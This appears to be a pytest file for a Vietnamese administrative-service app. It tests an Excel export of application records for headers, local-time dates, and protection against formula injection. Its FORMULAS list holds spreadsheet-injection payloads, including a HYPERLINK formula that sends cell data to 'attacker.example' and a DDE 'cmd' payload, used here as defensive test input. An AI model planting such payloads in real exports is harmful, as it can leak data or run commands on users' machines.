"""The tracking book as an agency opens it: one row per application, dates Excel can sort."""

from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from onestop.slips import BookRow, tracking_book_xlsx
from onestop.slips.book import COLUMNS, HEADER_ROW
from tests.slips.samples import at

ROWS = [
    BookRow(
        number=1,
        application_code="000.00.12.H30-261124-0001",
        procedure_name="Đăng ký thường trú",
        applicant_name="Nguyễn Thị Hồng Nhung",
        applicant_contact="Số 12 đường Trần Hưng Đạo, phường Vị Thanh; 0912 345 678",
        processing_agency="Công an tỉnh Hậu Giang",
        received_at=at(24, 11, 9, 5),
        due_at=at(1, 12, 16, 30),
        transferred_at=at(24, 11, 10, 30),
        result_at=at(30, 11, 15),
        returned_at=at(1, 12, 8, 45),
        note="Trả tại quầy số 3",
    ),
    BookRow(
        number=2,
        application_code="000.00.12.H30-261124-0002",
        procedure_name="Cấp bản sao trích lục hộ tịch",
        applicant_name="Công ty TNHH Đồng Tâm Phú Lộc",
        applicant_contact="0293 3555 777",
        processing_agency="Sở Tư pháp tỉnh Hậu Giang",
        received_at=at(24, 11, 14, 20),
        due_at=at(25, 11, 16, 30),
        sets=2,
    ),
    BookRow(
        number=3,
        application_code="000.00.12.H30-261125-0001",
        procedure_name="Đăng ký khai sinh",
        applicant_name="Trương Văn Hữu Phước",
        applicant_contact="Ấp Thạnh Lợi, xã Hỏa Lựu",
        processing_agency="Ủy ban nhân dân xã Hỏa Lựu",
        received_at=at(25, 11, 7, 30),
        due_at=at(25, 11, 16, 30),
    ),
]


@pytest.fixture(scope="module")
def sheet():
    content = tracking_book_xlsx(
        ROWS, "Sổ theo dõi hồ sơ — Trung tâm Phục vụ hành chính công", (date(2026, 11, 1), date(2026, 11, 30))
    )
    workbook = load_workbook(io.BytesIO(content))
    assert len(workbook.worksheets) == 1
    return workbook.active


def test_the_book_has_its_title_period_and_a_bold_frozen_header(sheet):
    assert sheet["A1"].value == "Sổ theo dõi hồ sơ — Trung tâm Phục vụ hành chính công"
    assert sheet["A2"].value.startswith("Từ ngày 01/11/2026 đến ngày 30/11/2026")
    headings = [cell.value for cell in sheet[HEADER_ROW]]
    assert headings == [heading for heading, _width, _attribute in COLUMNS]
    assert headings[:3] == ["STT", "Mã hồ sơ", "Tên thủ tục hành chính"]
    assert all(cell.font.bold for cell in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    assert sheet.column_dimensions["C"].width == 40
    assert sheet.auto_filter.ref == f"A{HEADER_ROW}:N{HEADER_ROW + len(ROWS)}"


def test_one_row_per_application_with_dates_as_local_excel_dates(sheet):
    body = list(sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True))
    assert len(body) == len(ROWS)
    assert [row[1] for row in body] == [entry.application_code for entry in ROWS]
    assert body[1][4] == "Công ty TNHH Đồng Tâm Phú Lộc"
    assert body[1][3] == 2
    # Moments were stored in UTC; the book shows the province's wall clock.
    assert body[0][7] == datetime(2026, 11, 24, 9, 5)
    assert body[0][8] == datetime(2026, 12, 1, 16, 30)
    assert body[0][11] == datetime(2026, 12, 1, 8, 45)
    assert body[1][9] is None and body[1][11] is None, "steps not reached yet stay empty"
    received = sheet.cell(row=HEADER_ROW + 1, column=8)
    assert received.is_date and received.number_format == "dd/mm/yyyy hh:mm"
    assert sheet.cell(row=HEADER_ROW + 1, column=3).alignment.wrap_text


def test_an_empty_period_still_gives_a_book_with_its_header():
    workbook = load_workbook(
        io.BytesIO(tracking_book_xlsx([], "Sổ theo dõi hồ sơ", (date(2026, 12, 1), date(2026, 12, 31))))
    )
    sheet = workbook.active
    assert [cell.value for cell in sheet[HEADER_ROW]][1] == "Mã hồ sơ"
    assert sheet.max_row == HEADER_ROW


# What the public may type into a name, an address or a note, and a spreadsheet would otherwise run.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Nguyễn Văn A")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "   =1+1",
]


def test_typed_formulas_stay_text_exactly_as_typed():
    rows = [
        BookRow(
            number=index,
            application_code=f"000.00.12.H30-261124-000{index}",
            procedure_name="Đăng ký thường trú",
            applicant_name=text,
            applicant_contact=text,
            processing_agency="Công an tỉnh Hậu Giang",
            received_at=at(24, 11, 9, 5),
            due_at=at(1, 12, 16, 30),
            note=text,
        )
        for index, text in enumerate(FORMULAS, start=1)
    ]
    content = tracking_book_xlsx(rows, "Sổ theo dõi", (date(2026, 11, 1), date(2026, 11, 30)))
    sheet = load_workbook(io.BytesIO(content)).active
    columns = [attribute for _heading, _width, attribute in COLUMNS]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    for offset, text in enumerate(FORMULAS, start=1):
        for attribute in ("applicant_name", "applicant_contact", "note"):
            cell = sheet.cell(row=HEADER_ROW + offset, column=columns.index(attribute) + 1)
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    # Ordinary text, numbers and dates are written as before.
    number = sheet.cell(row=HEADER_ROW + 1, column=1)
    assert (number.value, number.data_type, number.quotePrefix) == (1, "n", False)
